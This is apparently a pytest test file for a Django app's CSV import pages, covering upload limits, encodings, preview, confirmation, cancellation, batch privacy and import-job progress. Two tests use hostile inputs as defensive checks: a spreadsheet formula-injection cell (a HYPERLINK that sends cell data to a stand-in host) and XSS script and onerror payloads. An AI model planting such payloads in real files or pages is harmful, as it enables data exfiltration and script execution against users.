"""CSV import pages: upload with limits, preview, confirm once, cancel, error report, privacy of a batch."""

import csv
import io
import threading
from datetime import timedelta

import pytest
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import TestCase
from django.urls import reverse
from django.utils import timezone

from funnel.models import Account, ImportBatch, Opportunity, StageChange
from reps.models import AuditAction, AuditEvent
from tests.factories import AccountFactory

pytestmark = pytest.mark.django_db
OPPORTUNITY_HEADER = "name,customer,owner,stage,amount,expected_close_date,source,next_step\n"


def upload(client, text: str | bytes, kind: str = "opportunities", name: str = "deals.csv", **headers):
    content = text.encode("utf-8") if isinstance(text, str) else text
    data = {"kind": kind, "file": SimpleUploadedFile(name, content, content_type="text/csv")}
    return client.post(reverse("transfer:import_start"), data, **headers)


def uploaded(client, text: str, kind: str = "opportunities") -> ImportBatch:
    response = upload(client, text, kind)
    assert response.status_code == 302, response.content.decode()[:2000]
    return ImportBatch.objects.latest("pk")


def confirm(client, batch: ImportBatch, mode: str):
    """Confirms, and runs the import job the request starts when it commits, here (JOBS_INLINE)."""
    with TestCase.captureOnCommitCallbacks(execute=True):
        return client.post(reverse("transfer:import_confirm", args=[batch.pk]), {"mode": mode})


def page_of(client, batch: ImportBatch) -> str:
    """The batch's page, its whitespace collapsed as a reader sees it."""
    return " ".join(client.get(reverse("transfer:import_preview", args=[batch.pk])).content.decode().split())


def messages_of(response) -> list[str]:
    return [str(message) for message in get_messages(response.wsgi_request)]


def read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def huaxin(rep):
    return AccountFactory(owner=rep, name="Huaxin Steel")


def test_upload_page_states_the_limits_and_links_the_templates(client_for, rep, pipeline):
    response = client_for(rep).get(reverse("transfer:import_start"))
    page = response.content.decode()
    assert response.status_code == 200
    assert "At most 5000 rows and 5 MB per file" in page
    assert reverse("transfer:import_template", args=["customers"]) in page
    assert reverse("transfer:import_template", args=["opportunities"]) in page
    assert 'enctype="multipart/form-data"' in page


def test_template_header_lists_the_accepted_columns_in_the_users_language(client_for, rep):
    response = client_for(rep).get(reverse("transfer:import_template", args=["customers"]))
    assert response["Content-Disposition"].startswith("attachment")
    assert read_csv(response) == [
        ["name", "owner", "industry", "city", "address", "phone", "website", "notes", "territory"]
    ]
    rep.language = "zh-hans"
    rep.save()
    response = client_for(rep).get(reverse("transfer:import_template", args=["opportunities"]))
    assert read_csv(response)[0][:4] == ["名称", "客户", "负责人", "阶段"]


def test_template_of_an_unknown_kind_is_404(client_for, rep):
    assert client_for(rep).get(reverse("transfer:import_template", args=["users"])).status_code == 404


def test_upload_stores_a_batch_and_shows_its_preview(client_for, rep, teammate, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + f"A,Huaxin Steel,,,,,,\nB,Huaxin Steel,{teammate.username},,,,,\n")
    assert (batch.created_by, batch.kind, batch.filename, batch.pipeline) == (
        rep,
        "opportunities",
        "deals.csv",
        pipeline,
    )
    response = client.get(reverse("transfer:import_preview", args=[batch.pk]))
    page = response.content.decode()
    assert "1 valid row" in page and "1 row with problems" in page
    assert "Import the 1 valid row" in page
    assert f"Owner: “{teammate.username}” is not someone you can assign to." in page
    assert 'value="all" class="btn btn-outline-primary" disabled' in page
    assert not Opportunity.objects.exists()


def test_gbk_file_with_chinese_headers_is_read(client_for, rep, pipeline):
    AccountFactory(owner=rep, name="华信钢铁")
    text = '名称,客户,金额,预计成交日期\n高炉改造,华信钢铁,"1,200,000",2025/6/30\n'
    client = client_for(rep)
    response = upload(client, text.encode("gbk"))
    batch = ImportBatch.objects.get()
    assert response.status_code == 302
    page = client.get(reverse("transfer:import_preview", args=[batch.pk])).content.decode()
    assert "1 valid row" in page and "高炉改造" in page


def test_a_file_over_5000_rows_is_refused_with_a_message(client_for, rep):
    response = upload(client_for(rep), "name\n" + "Customer\n" * 5001, kind="customers")
    assert response.status_code == 400
    assert "The file has more than 5000 rows; at most 5000 can be imported at once." in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_a_file_over_5_mb_is_refused_with_a_message_once_its_first_5_mb_are_read(client_for, rep):
    response = upload(client_for(rep), "name\n" + "x" * (5 * 2**20), kind="customers")
    assert response.status_code == 413
    assert "the limit is 5 MB" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_an_upload_declared_over_5_mb_is_refused_before_its_body_is_read(client_for, rep):
    """Issue 11.1: a 50 MB upload was received whole before the 5 MB check. The test client's body
    refuses to be read past its real size, so reading the declared 50 MB would fail the test."""
    response = upload(client_for(rep), "name\nA\n", kind="customers", CONTENT_LENGTH=str(50 * 2**20))
    assert response.status_code == 413
    assert "This file is 50.0 MB; the limit is 5 MB." in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_an_upload_without_a_csrf_token_is_refused(rep, pipeline):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(rep)
    assert upload(client, "name\nA\n", kind="customers").status_code == 403
    assert not ImportBatch.objects.exists()


def test_a_nul_byte_in_a_cell_leaves_the_file_previewable_with_that_row_in_error(client_for, rep):
    """Issue 11.3: on PostgreSQL the upload was a 500."""
    client = client_for(rep)
    batch = uploaded(client, b"name,city\nA\x00B,x\nGood,y\n".decode(), kind="customers")
    page = page_of(client, batch)
    assert "1 valid row" in page and "1 row with problems" in page
    assert "This row holds a NUL character (shown as ␀), which cannot be stored." in page
    confirm(client, batch, "valid")
    assert list(Account.objects.values_list("name", flat=True)) == ["Good"]


def test_an_unclosed_quote_refuses_the_file_naming_its_line(client_for, rep):
    """Issue 11.4: the rest of the file was swallowed into one cell and reached the preview."""
    response = upload(client_for(rep), 'name,notes\nA,x\nB,"unclosed\nC,y\nD,z\n', kind="customers")
    assert response.status_code == 400
    assert "The quote that opens a cell on line 3 is never closed" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_a_file_that_is_not_text_is_refused_with_a_message(client_for, rep):
    response = upload(client_for(rep), b"\xff\xd8\xff\xe0 a jpeg", kind="customers")
    assert response.status_code == 400
    assert "neither UTF-8 nor GBK" in response.content.decode()


def test_importing_valid_rows_creates_them_and_reports_the_skipped(client_for, rep, teammate, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\nB,Someone Else's,,,,,,\n")
    response = confirm(client, batch, "valid")
    assert response.status_code == 302 and response["Location"] == reverse("transfer:import_preview", args=[batch.pk])
    assert list(Opportunity.objects.values_list("name", flat=True)) == ["A"]
    assert StageChange.objects.filter(opportunity__name="A", from_stage=None, by=rep).exists()
    page = page_of(client, batch)
    assert "1 opportunity imported. 1 row skipped; the reason is listed below." in page
    assert "There is no customer named “Someone Else&#x27;s” that you can see." in page


def test_all_or_nothing_imports_nothing_when_a_row_is_invalid(client_for, rep, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\nB,Nowhere,,,,,,\n")
    response = confirm(client, batch, "all")
    assert response.status_code == 302
    assert not Opportunity.objects.exists()
    page = page_of(client, batch)
    assert "Nothing was imported: 1 of 2 rows have problems. Correct them and upload again." in page
    assert "Import the 1 valid row" in page  # the choice is offered again


def test_all_or_nothing_imports_everything_when_every_row_is_valid(client_for, manager, rep):
    client = client_for(manager)
    batch = uploaded(client, "名称,负责人,城市\n华信钢铁,r1,上海\n宝钢,,上海\n", kind="customers")
    assert (
        "Import only if every row is valid"
        in client.get(reverse("transfer:import_preview", args=[batch.pk])).content.decode()
    )
    confirm(client, batch, "all")
    assert "2 customers imported." in page_of(client, batch)
    assert dict(Account.objects.values_list("name", "owner")) == {"华信钢铁": rep.pk, "宝钢": manager.pk}
    event = AuditEvent.objects.get(action=AuditAction.IMPORTED)
    assert event.detail == {"kind": "customers", "rows": 2, "skipped": 0}


def test_double_confirm_imports_once_and_answers_without_an_error_page(client_for, rep, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
    confirm(client, batch, "valid")
    second = confirm(client, batch, "valid")
    assert second.status_code == 302
    assert messages_of(second)[-1] == "This file has already been imported or cancelled. Nothing more was imported."
    assert Opportunity.objects.count() == 1
    assert AuditEvent.objects.filter(action=AuditAction.IMPORTED).count() == 1


def test_an_unknown_mode_imports_nothing(client_for, rep, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
    response = confirm(client, batch, "everything")
    assert messages_of(response) == ["Choose how to import."]
    assert not Opportunity.objects.exists()


def test_cancel_imports_nothing_and_leaves_a_note(client_for, rep, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
    response = client.post(reverse("transfer:import_cancel", args=[batch.pk]))
    assert response.status_code == 302 and response["Location"] == reverse("transfer:import_start")
    assert confirm(client, batch, "valid").status_code == 302
    assert not Opportunity.objects.exists()
    assert (
        "This import was cancelled." in client.get(reverse("transfer:import_preview", args=[batch.pk])).content.decode()
    )


@pytest.mark.parametrize("viewer", ["teammate", "manager", "admin"])
def test_another_users_batch_is_404_and_cannot_be_imported(client_for, cast, pipeline, viewer):
    AccountFactory(owner=cast["rep"], name="Huaxin Steel")
    batch = uploaded(client_for(cast["rep"]), OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
    client = client_for(cast[viewer])
    for name in ("import_preview", "import_errors"):
        assert client.get(reverse(f"transfer:{name}", args=[batch.pk])).status_code == 404
    for name in ("import_confirm", "import_cancel"):
        assert client.post(reverse(f"transfer:{name}", args=[batch.pk]), {"mode": "valid"}).status_code == 404
    batch.refresh_from_db()
    assert batch.status == ImportBatch.Status.PREVIEWED and not Opportunity.objects.exists()
    assert AuditEvent.objects.filter(action=AuditAction.ACCESS_DENIED, object_id=str(batch.pk)).count() == 4


def test_error_report_neutralises_formula_cells(client_for, rep, pipeline):
    client = client_for(rep)
    text = OPPORTUNITY_HEADER + '"=HYPERLINK(""http://x/?""&A1)",@SUM(A1),,,,,,\n+1,-2,,,,,,\n'
    batch = uploaded(client, text)
    response = client.get(reverse("transfer:import_errors", args=[batch.pk]))
    assert response["Content-Type"].startswith("text/csv")
    rows = read_csv(response)
    assert rows[0][:3] == ["Row", "Problems", "name"]
    assert [row[0] for row in rows[1:]] == ["2", "3"]
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\0")]
    assert '\'=HYPERLINK("http://x/?"&A1)' in cells


def test_preview_renders_stored_text_inert(client_for, rep, pipeline):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + '<script>alert(1)</script>,"<img src=x onerror=alert(1)>",,,,,,\n')
    page = client.get(reverse("transfer:import_preview", args=[batch.pk])).content.decode()
    assert "<script>alert(1)" not in page and "<img src=x" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page


def test_preview_shows_the_first_200_rows_in_constant_queries(
    client_for, rep, pipeline, huaxin, django_assert_max_num_queries
):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "".join(f"Deal {n},Huaxin Steel,,,,,,\n" for n in range(250)))
    with django_assert_max_num_queries(15):
        response = client.get(reverse("transfer:import_preview", args=[batch.pk]))
    page = response.content.decode()
    assert "Showing the first 200 of 250 rows." in page
    assert "Deal 199" in page and "Deal 200" not in page
    assert "Import the 250 valid rows" in page


# --- the import job and its progress (issue 11.1) ----------------------------------------------------
def test_the_import_runs_as_a_job_its_page_shows_progress_then_the_result(client_for, rep, pipeline, huaxin, settings):
    from funnel.tasks import import_batch_run_task

    settings.JOBS_INLINE = False  # the job waits for a commit that never comes inside the test's transaction
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "".join(f"Deal {n},Huaxin Steel,,,,,,\n" for n in range(1200)))
    client.post(reverse("transfer:import_confirm", args=[batch.pk]), {"mode": "valid"})  # the job has not run yet
    progress_url = reverse("transfer:import_progress", args=[batch.pk])
    page = page_of(client, batch)
    assert "Waiting for the import to start…" in page and f'hx-get="{progress_url}"' in page
    ImportBatch.objects.filter(pk=batch.pk).update(status="importing", rows_done=500)
    partial = client.get(progress_url, headers={"HX-Request": "true"})
    assert partial.status_code == 200
    assert "Importing: 500 of 1200 rows done." in partial.content.decode()
    assert '<progress class="w-100" max="100" value="41"' in partial.content.decode()
    ImportBatch.objects.filter(pk=batch.pk).update(status="queued", rows_done=0)
    import_batch_run_task.apply(args=[batch.pk])  # as the worker would
    done = client.get(progress_url, headers={"HX-Request": "true"})
    assert done.headers["HX-Refresh"] == "true"  # the page reloads to show the result
    assert "1200 opportunities imported." in page_of(client, batch)
    assert Opportunity.objects.count() == 1200


def test_a_stalled_import_offers_to_start_again_and_carries_on(client_for, rep, pipeline, huaxin, settings):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
    settings.JOBS_INLINE = False
    client.post(reverse("transfer:import_confirm", args=[batch.pk]), {"mode": "valid"})  # its worker died
    settings.JOBS_INLINE = True
    assert "Start it again" not in page_of(client, batch)
    ImportBatch.objects.filter(pk=batch.pk).update(progress_at=timezone.now() - timedelta(minutes=5))
    assert "Start it again" in page_of(client, batch)
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(reverse("transfer:import_resume", args=[batch.pk]))
    assert response.status_code == 302
    assert "1 opportunity imported." in page_of(client, batch)


def test_resuming_a_finished_import_does_nothing(client_for, rep, pipeline, huaxin):
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "A,Huaxin Steel,,,,,,\n")
    confirm(client, batch, "valid")
    response = client.post(reverse("transfer:import_resume", args=[batch.pk]))
    assert messages_of(response) == ["This import is not stalled: it is still running, or it has finished."]
    assert Opportunity.objects.count() == 1


@pytest.mark.django_db(transaction=True)
def test_without_a_queue_the_import_runs_on_a_thread_and_the_page_follows_it(client_for, rep, pipeline, settings):
    """End to end as `make run` serves it: no Redis, the job on a thread of the web process."""
    if connection.vendor != "postgresql":
        pytest.skip("the thread writes while this test reads: PostgreSQL, not the in-memory SQLite test database")
    settings.JOBS_INLINE, settings.CELERY_TASK_ALWAYS_EAGER = False, True
    AccountFactory(owner=rep, name="Huaxin Steel")
    client = client_for(rep)
    batch = uploaded(client, OPPORTUNITY_HEADER + "".join(f"Deal {n},Huaxin Steel,,,,,,\n" for n in range(600)))
    client.post(reverse("transfer:import_confirm", args=[batch.pk]), {"mode": "valid"})
    for thread in threading.enumerate():
        if thread.name.startswith("job "):
            thread.join(timeout=60)
    assert client.get(reverse("transfer:import_progress", args=[batch.pk]), headers={"HX-Request": "true"}).headers[
        "HX-Refresh"
    ]
    assert "600 opportunities imported." in page_of(client, batch)
